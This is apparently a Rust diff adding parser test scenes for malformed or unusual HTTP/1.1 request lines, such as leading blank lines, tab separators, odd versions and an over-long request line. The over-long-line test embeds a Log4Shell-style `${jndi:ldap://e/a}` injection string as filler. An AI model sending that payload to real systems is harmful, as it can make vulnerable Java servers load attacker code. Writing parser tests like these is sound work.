@@ -10,6 +10,12 @@ pub(super) fn scenes() -> Vec<Scene> {
         empty_reason(),
         not_a_status_code(),
         empty_lines(),
+        many_empty_lines(),
+        empty_lines_alone(),
+        blanks_before_a_request(),
+        words_apart_by_tabs(),
+        other_versions(),
+        request_line_beyond_the_limit(),
         repeated_fields(),
         foreign_bytes(),
         control_characters(),
@@ -111,6 +117,75 @@ fn empty_lines() -> Scene {
         .client("\r\n\r\nGET /two HTTP/1.1\r\nHost: scene.example\r\n\r\n")
         .server("\r\nHTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\ntwo")
         .expect(get("/two").header("Content-Length", "3").body(3, End::Length))
+        .plain("/after")
+        .close()
+}
+
+/// As many empty lines as servers pass over before the first request.
+fn many_empty_lines() -> Scene {
+    let empty = "\r\n".repeat(40);
+    Script::new("many_empty_lines")
+        .client(format!("{empty}GET /one HTTP/1.1\r\nHost: scene.example\r\n\r\n"))
+        .server("HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\none")
+        .expect(get("/one").header("Content-Length", "3").body(3, End::Length))
+        .plain("/after")
+        .close()
+}
+
+/// The same in a segment of their own.
+fn empty_lines_alone() -> Scene {
+    Script::new("empty_lines_alone")
+        .client("\r\n\r\n\r\n")
+        .plain("/one")
+        .client("\n\n\n\n\n\n\n")
+        .plain("/after")
+        .close()
+}
+
+/// Blanks before the first request, which some servers pass over.
+fn blanks_before_a_request() -> Scene {
+    Script::new("blanks_before_a_request")
+        .client(" \t GET /one HTTP/1.1\r\nHost: scene.example\r\n\r\n")
+        .server("HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\none")
+        .expect(get("/one").header("Content-Length", "3").body(3, End::Length))
+        .plain("/after")
+        .close()
+}
+
+/// Words of a request line that tabs and form feeds separate (RFC 9112 §3).
+fn words_apart_by_tabs() -> Scene {
+    let mut script = Script::new("words_apart_by_tabs").plain("/before");
+    for (line, target) in [("GET\t/one\tHTTP/1.1", "/one"), ("GET\x0c\x0b/two HTTP/1.1", "/two")] {
+        script = script
+            .client(format!("{line}\r\nHost: scene.example\r\n\r\n"))
+            .server("HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\none")
+            .expect(get(target).header("Content-Length", "3").body(3, End::Length));
+    }
+    script.plain("/after").close()
+}
+
+/// Versions other than HTTP/1.x, which some servers accept and repeat.
+fn other_versions() -> Scene {
+    let mut script = Script::new("other_versions").plain("/before");
+    for version in ["HTTP/2.0", "HTTP/1.10", "HTTP/0.9", "HTTP/1", "HTTP/1.1.1"] {
+        script = script
+            .client(format!("GET /x {version}\r\nHost: scene.example\r\n\r\n"))
+            .server(format!("{version} 200 OK\r\nContent-Length: 3\r\n\r\none"))
+            .expect(
+                get("/x").header("Content-Length", "3").body(3, End::Length).flag("other_version"),
+            );
+    }
+    script.plain("/after").close()
+}
+
+/// A request line that is longer than what is kept of a head: its beginning is.
+fn request_line_beyond_the_limit() -> Scene {
+    const LIMIT: usize = 64 << 10;
+    let target = format!("/?x=${{jndi:ldap://e/a}}&{}", "a".repeat(LIMIT));
+    Script::new("request_line_beyond_the_limit")
+        .client(format!("GET {target} HTTP/1.1\r\nHost: scene.example\r\n\r\n"))
+        .server("HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\none")
+        .expect(get(&target[..LIMIT - 4]).header("Content-Length", "3").body(3, End::Length))
         .plain("/after")
         .close()
 }
